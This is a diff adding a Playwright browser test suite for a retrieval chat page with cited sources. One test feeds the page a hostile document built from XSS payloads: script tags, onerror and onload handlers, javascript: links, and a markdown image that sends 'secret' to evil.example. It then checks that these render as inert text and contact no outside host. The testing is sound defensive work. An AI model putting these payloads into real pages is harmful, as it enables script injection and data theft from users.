@@ -1,0 +1,367 @@
+"""The page in a real browser; needs an installed Chromium, downloads nothing."""
+
+import os
+import shutil
+import threading
+import time
+from dataclasses import replace
+
+import pytest
+
+from corpus import Document, Passage
+from index.hits import Hit
+from rag.answers import Answer, Citation
+
+sync_api = pytest.importorskip("playwright.sync_api", reason="playwright drives the browser: pip install playwright")
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+pytestmark = [
+    pytest.mark.long,
+    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium"),
+    pytest.mark.filterwarnings("ignore::ResourceWarning"),
+]
+
+FLAGS = [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+    "--disable-component-update", "--disable-sync",
+]  # fmt: skip
+EVIL = (
+    '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(2)</script>![x](https://evil.example/?q=secret)'
+    "<svg onload=alert(3)></svg> [click](javascript:alert(4)) $$\\href{javascript:alert(5)}{x}$$ </div><h1>Owned</h1>"
+)
+EXAMPLES = {"zh": ["要多少显存?", "INT8 呢?"], "en": ["How much memory?", "And INT8?"]}
+
+
+class Talker:
+    """Answers by the words of the question: slowly, with a refusal, with an error, or out of a hostile document."""
+
+    def __init__(self, answer: Answer, refusal: Answer) -> None:
+        self.answer = answer
+        self.refusal = refusal
+
+    def stream(self, question, history=()):
+        if "weather" in question:
+            yield self.refusal
+        elif "break" in question:
+            raise RuntimeError("secret")
+        elif "evil" in question:
+            yield EVIL
+            yield evil_answer()
+        elif "slow" in question:
+            for n in range(1_000):
+                time.sleep(0.02)
+                yield f"word{n} "
+        else:
+            for piece in ("量化到 INT4 后,", "Walnut-7B ", "只要 "):
+                time.sleep(0.15)
+                yield piece
+            yield replace(self.answer, question=question)
+
+    def ask(self, question, history=()):
+        return self.answer
+
+    def search(self, question, k=10):
+        return []
+
+
+def evil_answer() -> Answer:
+    text = f"{EVIL}\n\n{EVIL}"
+    document = Document(id=EVIL, text=text, title=EVIL, url="javascript:alert(6)")
+    citation = Citation(1, EVIL, EVIL, EVIL, EVIL, 0, len(EVIL), "javascript:alert(6)")
+    return Answer(
+        "q", f"{EVIL} [1]", True, (citation,), (Hit(Passage(document, 0, len(text), EVIL), 1.0),), notes=(EVIL,)
+    )
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory):
+    """Serve the page over a scripted assistant, in a thread."""
+    import uvicorn
+
+    from ui.server import create_app, listen
+
+    document = Document.from_text(TEXT, id="notes/open.md", title="开源模型笔记", url="https://example.org/notes")
+    start = document.text.index(QUOTE)
+    citation = Citation(
+        1, document.id, document.title, "Walnut-7B", QUOTE, start, start + len(QUOTE), document.url, None, 0.4
+    )
+    hits = (Hit(Passage(document, 0, len(document.text), "Walnut-7B"), 1.0),)
+    answer = Answer("q", "量化到 INT4 后,Walnut-7B 只要 **6 GB** 显存 [1]。", True, (citation,), hits)
+    refusal = Answer("q", "The documents do not say.", False, (), hits)
+    environment = dict(os.environ)
+    app = create_app(Talker(answer, refusal), examples=EXAMPLES, home=tmp_path_factory.mktemp("home"))
+    listener = listen("127.0.0.1", 0)
+    running = uvicorn.Server(uvicorn.Config(app, log_level="error", timeout_graceful_shutdown=1))
+    thread = threading.Thread(target=running.run, kwargs={"sockets": [listener]}, daemon=True)
+    thread.start()
+    while not running.started:
+        time.sleep(0.05)
+    yield f"http://127.0.0.1:{listener.getsockname()[1]}/"
+    running.should_exit = True
+    thread.join(10)
+    os.environ.clear()
+    os.environ.update(environment)
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with sync_api.sync_playwright() as playwright:
+        started = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield started
+        started.close()
+
+
+@pytest.fixture
+def visit(browser, server):
+    """Return a function that opens the page; afterwards nothing may have gone to another host or to the console."""
+    contexts, asked, complaints = [], [], []
+
+    def visiting(*, locale="en-US", width=1280, height=800, scheme="light"):
+        context = browser.new_context(
+            locale=locale, viewport={"width": width, "height": height}, color_scheme=scheme,
+            permissions=["clipboard-read", "clipboard-write"],
+        )  # fmt: skip
+        contexts.append(context)
+        page = context.new_page()
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on("dialog", lambda dialog: complaints.append(f"dialog {dialog.message}"))
+        page.goto(server)
+        page.wait_for_selector(".sq-example")
+        return page
+
+    yield visiting
+    for context in contexts:
+        context.close()
+    assert [url for url in asked if not url.startswith((server, "data:", "blob:"))] == []
+    assert complaints == []
+
+
+def ask(page, question):
+    page.fill("#question textarea", question)
+    page.keyboard.press("Enter")
+
+
+def is_in_view(page, selector, frame):
+    inner, outer = page.locator(selector).first.bounding_box(), page.locator(frame).bounding_box()
+    return outer["y"] <= inner["y"] and inner["y"] + inner["height"] <= outer["y"] + outer["height"] + 1
+
+
+def test_an_example_is_asked_by_a_click_and_the_answer_streams(visit):
+    page = visit(locale="zh-CN")
+
+    page.click("text=要多少显存?")
+    page.wait_for_selector("text=量化到 INT4 后")
+    partial = page.inner_text("#chat")
+    page.wait_for_selector(".sq-answered")
+
+    assert "6 GB" not in partial
+    assert "6 GB" in page.inner_text(".sq-answered")
+
+
+def test_a_mark_opens_the_source_with_the_quoted_words_marked(visit):
+    page = visit()
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+
+    assert page.inner_text("#source mark") == QUOTE
+    assert "supports the statement only in part" in page.inner_text("#source .sq-check")
+    assert page.get_attribute("#source a", "href") == "https://example.org/notes"
+    assert is_in_view(page, "#source mark", "#source")
+
+
+def test_a_source_far_down_is_scrolled_into_view(visit):
+    page = visit(width=375, height=500)
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+    page.wait_for_timeout(300)
+
+    assert is_in_view(page, "#source mark", "#source")
+
+
+def test_everything_works_from_the_keyboard(visit):
+    page = visit()
+    ask(page, "How much?")
+    page.wait_for_selector(".sq-answered")
+    page.focus(".sq-mark")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#source mark")
+    page.keyboard.press("Escape")
+    page.wait_for_selector("#source", state="hidden")
+
+    assert page.evaluate("document.activeElement.className").startswith("sq-mark")
+
+
+def test_every_button_and_field_has_a_name(visit):
+    page = visit()
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+
+    nameless = page.evaluate(
+        """[...document.querySelectorAll("button, textarea, input, a")].filter((e) => e.offsetParent
+           && !(e.innerText || e.ariaLabel || e.title || e.labels?.[0]?.innerText || e.placeholder || "").trim())
+           .map((e) => e.outerHTML.slice(0, 120))"""
+    )
+    assert nameless == []
+    assert "开源模型笔记" in page.get_attribute(".sq-mark", "aria-label")
+
+
+def test_a_stop_keeps_what_was_written(visit):
+    page = visit()
+    ask(page, "slow please")
+    page.wait_for_selector("text=word9")
+    page.click("#stop")
+    page.wait_for_selector(".sq-stopped")
+    kept = page.inner_text(".sq-stopped .sq-text")
+    page.wait_for_timeout(500)
+
+    assert kept.startswith("word0 word1")
+    assert page.inner_text(".sq-stopped .sq-text") == kept
+    assert page.is_visible("#send")
+    assert page.is_hidden("#stop")
+
+
+def test_one_may_ask_on_after_a_stop(visit):
+    page = visit()
+    ask(page, "slow please")
+    page.click("#stop")
+    page.wait_for_selector(".sq-stopped")
+    ask(page, "How much?")
+
+    page.wait_for_selector(".sq-answered")
+    assert page.locator(".sq-turn").count() == 2
+
+
+def test_a_refusal_and_an_error_look_different_from_an_answer(visit):
+    page = visit()
+    ask(page, "weather?")
+    page.wait_for_selector(".sq-refused")
+    ask(page, "break it")
+    page.wait_for_selector(".sq-failed")
+
+    assert "Not in the documents" in page.inner_text(".sq-refused")
+    assert "RuntimeError" in page.inner_text(".sq-alert")
+    assert "secret" not in page.inner_text("body")
+    page.click(".sq-refused .sq-source")
+    page.wait_for_selector("#source mark")
+
+
+def test_a_hostile_document_stays_text_and_asks_nobody(visit):
+    page = visit()
+    ask(page, "evil")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+    page.wait_for_timeout(500)
+
+    assert (
+        page.locator("#chat .md :is(img, script, svg, iframe, form, .katex, h1), #source :is(img, script, svg, a, h1)").count()
+        == 0
+    )
+    assert "<script>alert(2)</script>" in page.inner_text("#source mark")
+    assert "<script>alert(2)</script>" in page.inner_text(".sq-answered")
+
+
+def test_the_language_follows_the_browser_and_switches_live(visit):
+    page = visit(locale="zh-CN")
+    ask(page, "要多少?")
+    page.click(".sq-mark")
+    page.wait_for_selector("text=引文只部分支持")
+    page.click("#language label:has-text('English')")
+
+    page.wait_for_selector("text=supports the statement only in part")
+    assert page.inner_text("#send") == "Send"
+    assert "Copy answer" in page.inner_text(".sq-answered")
+
+
+def test_clearing_brings_the_examples_back(visit):
+    page = visit()
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+    page.click("#clear")
+
+    page.wait_for_selector(".sq-example")
+    assert page.is_hidden("#source")
+    assert page.locator(".sq-turn").count() == 0
+
+
+def test_copying_gives_plain_text_with_the_marks(visit):
+    page = visit()
+    ask(page, "How much?")
+    page.click(".sq-copy")
+    page.wait_for_selector("text=Copied")
+
+    assert page.evaluate("navigator.clipboard.readText()") == "量化到 INT4 后,Walnut-7B 只要 6 GB 显存 [1]。"
+
+
+@pytest.mark.parametrize("width", [360, 375, 768, 1440])
+def test_nothing_sticks_out_at_any_width(visit, width):
+    page = visit(width=width, height=740)
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    for selector in ("#question", "#send", "#source", "#clear", "#language"):
+        box = page.locator(selector).bounding_box()
+        assert box["x"] >= 0
+        assert box["x"] + box["width"] <= width + 1
+
+
+def test_in_a_narrow_window_the_source_stands_below_the_chat(visit):
+    page = visit(width=375, height=740)
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+    talk, side = page.locator("#talk").bounding_box(), page.locator("#side").bounding_box()
+
+    assert side["y"] >= talk["y"] + talk["height"] - 1
+    assert is_in_view(page, "#send", "#talk")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_stands_out_from_its_background(visit, scheme):
+    page = visit(scheme=scheme)
+    ask(page, "How much?")
+    page.click(".sq-mark")
+    page.wait_for_selector("#source mark")
+
+    for selector in (
+        ".sq-question", ".sq-text p", ".sq-word", ".sq-at", ".sq-copy", ".sq-label", "#source mark", "#source .sq-context",
+        "#source .sq-check", "#source a", "#send", "#clear", ".sq-fine", ".sq-head p", ".sq-source",
+    ):  # fmt: skip
+        assert page.evaluate(CONTRAST, selector) >= 4.5, selector
+
+
+def test_two_people_do_not_see_each_other(visit):
+    one, other = visit(), visit()
+    ask(one, "How much?")
+    one.wait_for_selector(".sq-answered")
+
+    assert other.locator(".sq-turn").count() == 0
+    ask(other, "weather?")
+    other.wait_for_selector(".sq-refused")
+    assert one.locator(".sq-refused").count() == 0
+
+
+TEXT = (
+    "# 开源模型笔记\n\n## Walnut-7B\n\n"
+    + "".join(f"第 {n} 段说的是别的事情,和显存没有关系,只是为了让原文够长。\n\n" for n in range(40))
+    + "Walnut-7B 是某大学在 2023 年发布的开源双语模型。量化到 INT4 后,Walnut-7B 只要 6 GB 显存就能运行。它用 1T 词元训练。\n"
+)
+QUOTE = "量化到 INT4 后,Walnut-7B 只要 6 GB 显存就能运行"
+# The contrast ratio of WCAG 2 between an element's text and the first background that is not transparent.
+CONTRAST = """(selector) => {
+  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
+  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
+    .reduce((sum, v, n) => sum + v * [0.2126, 0.7152, 0.0722][n], 0);
+  const element = document.querySelector(selector);
+  let behind = element;
+  const seen = (e) => { const c = parts(getComputedStyle(e).backgroundColor); return c.length === 3 || c[3] > 0; };
+  while (behind.parentElement && !seen(behind)) behind = behind.parentElement;
+  const [a, b] = [light(parts(getComputedStyle(element).color)), light(parts(getComputedStyle(behind).backgroundColor))];
+  return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+}"""
